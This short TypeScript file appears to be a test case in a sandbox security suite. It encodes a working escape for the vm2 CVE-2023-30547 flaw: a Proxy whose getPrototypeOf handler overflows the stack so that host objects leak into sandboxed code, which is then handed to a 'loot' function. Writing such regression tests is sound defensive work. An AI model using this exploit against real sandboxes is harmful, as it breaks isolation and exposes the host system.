import { attack } from '../attack.ts';

/** The thrown value is a proxy whose `getPrototypeOf` overflows: whoever looks at the thrown thing fails there (vm2 CVE-2023-30547). */
export const escape = attack({
	grants: [],
	source: `
		let got;
		let overflows = 0;
		const endless = (depth = 0) => { if (depth % 500 === 0) new Error().stack; endless(depth + 1); };
		const thrown = new Proxy({}, { getPrototypeOf() { overflows += 1; if (overflows < 4) endless(); return null; } });
		try { throw thrown; } catch ({ constructor: Maker }) { got = loot(Maker); }
		try { thrown instanceof Error; } catch (error) { got ??= loot(error); }
		throw Object.assign(thrown, { got });
	`,
});
